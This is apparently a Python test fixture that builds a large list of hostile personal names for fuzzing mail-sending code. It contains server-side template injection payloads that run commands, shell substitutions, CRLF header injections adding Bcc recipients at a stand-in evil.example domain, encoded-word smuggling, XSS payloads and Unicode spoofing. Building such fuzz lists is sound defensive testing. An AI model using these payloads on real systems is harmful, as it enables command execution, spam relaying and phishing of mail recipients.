"""Texts that attack whoever puts them into a mail: headers, addresses, HTML, links, and every template language we know."""

from __future__ import annotations

import itertools

TEMPLATES = (
    # Django, Jinja, Twig, Nunjucks, Liquid, Handlebars, Angular, Vue
    "{{7*7}}", "{{ 7*'7' }}", "{{config}}", "{{ settings.SECRET_KEY }}", "{{ request.user.password }}",
    "{% load static %}", "{% include 'admin/base.html' %}", "{% debug %}", "{% csrf_token %}", "{# gone #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{['id']|filter('system')}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}", "{{constructor.constructor('alert(1)')()}}",
    "{{#with 's' as |string|}}x{{/with}}", "{{{7*7}}}", "{{&7*7}}", "{{=<% %>=}}", "[[7*7]]", "[[${7*7}]]",
    # Python's own, and what a careless replacement would do
    "%s", "%(password)s", "%d %n", "{0}", "{}", "{0.__class__}", "{program.organisation}", "{first_name!r}",
    "{first_name:>99}", "{ first_name }", "{FIRST_NAME}", "{__class__}", "$first_name", "\\1", "\\g<0>",
    "\\u007b7*7\\u007d", "{last_name", "first_name}", "}{",
    # Ruby, Java, PHP, .NET, shells, servers
    "<%= 7*7 %>", "<% exec %>", "#{7*7}", "*{7*7}", "@(7*7)", "~{x}", "%{7*7}", "#set($x=7*7)$x", "<#assign x=7*7>${x}",
    "${7*7}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "${jndi:ldap:x}", "<?php echo 7*7; ?>", "{php}echo 7;{/php}",
    "<!--#exec cmd='id' -->", "<esi:include src=x />", "&xxe;", "&#123;7*7&#125;", "$(id)", "`id`", "{{'a'.toUpperCase()}}",
)  # fmt: skip
"""Each on one line, none of it a placeholder of ours."""

_LINE_ENDS = (
    "\r\n",
    "\n",
    "\r",
    "\r\n\r\n",
    "\n\n",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
    "\x00\n",
)
_HEADERS = (
    "Bcc: eve@evil.example", "To: eve@evil.example", "Cc: eve@evil.example", "Subject: free money",
    "Content-Type: text/html", "MIME-Version: 1.0", "Reply-To: eve@evil.example", "X-Spam: no", "From: eve@evil.example",
    "Return-Path: <eve@evil.example>", "List-Unsubscribe: <https://evil.example>", ".\r\nMAIL FROM:<eve@evil.example>",
    "--muster\r\nContent-Type: text/html\r\n\r\n<b>x</b>", ".", "..", " folded: yes", "\tBcc: eve@evil.example",
)  # fmt: skip
_ADDRESSES = (
    '"Ada" <eve@evil.example>', "Ada, eve@evil.example", "Ada; eve@evil.example", "<eve@evil.example>", "Ada\\", '"', "'",
    "(eve@evil.example)", "eve@evil.example:", "undisclosed: eve@evil.example;", "@evil.example:eve@x.example", 'a\\"b <x@y.z>',
    "=?utf-8?q?=0d=0aBcc:_eve@evil.example?=", "=?utf-8?b?DQpCY2M6IGV2ZUBldmlsLmV4YW1wbGU=?=",
    "=?utf-8?q?eve=40evil.example?=", "=?us-ascii?q?=22_=3Ceve=40evil.example=3E?=", "%0d%0aBcc:eve@evil.example",
)  # fmt: skip
_HTML = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=https://evil.example>here</a>", "</h1><h1>",
    "</td></tr></table><table><tr><td>", '" onmouseover="alert(1)', "' style='color:red", "<style>*{display:none}</style>",
    "<!--", "-->", "]]>", "<![CDATA[", "</title><script>", "<svg/onload=alert(1)>", "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0>", "<form action=https://evil.example>", "<iframe src=x>", "<b", "<", ">", "&lt;b&gt;",
    "&#60;b&#62;", "<\u200bscript>", "\uff1cscript\uff1e", "<a\x00href=x>", "javascript:alert(1)", "<link rel=stylesheet href=x>",
)  # fmt: skip
_LINKS = (
    "https://evil.example",
    "HTTP://evil.example/x",
    "see https://evil.example now",
    "www.evil.example",
    "WWW.evil.example",
    "ftp://evil.example",
)
_LETTERS = (
    "\u202eadA", "\u2066Ada\u2069", "\u200bAda",
    "\ufeffAda", "A\u0301da", "\U0001f469\u200d\U0001f52c", "\u4e2d\u6587", "\u0639\u0644\u064a",
    "A" * 200, "\U0001f600" * 80, "Ada " * 90, "\u0430\u0434\u0430",
    "\x1b[31mAda", "\x07", "\x7f", "\ue000", "\u00ad", "", " ", "\t",
)  # fmt: skip


def hostile_names() -> list[str]:
    """At least a thousand different ones, the same each time."""
    injections = [
        f"Ada{end}{header}"
        for end, header in itertools.product(_LINE_ENDS, (*_HEADERS, *_ADDRESSES, *_HTML[:8]))
    ]
    alone = (*_HEADERS, *_ADDRESSES, *_HTML, *_LINKS, *_LETTERS, *TEMPLATES)
    wrapped = [
        f"{before}{text}{after}"
        for text in alone
        for before, after in (("", ""), ("Ada ", ""), ('"', '"'), ("", "\r\n"))
    ]
    return list(dict.fromkeys([*injections, *wrapped]))
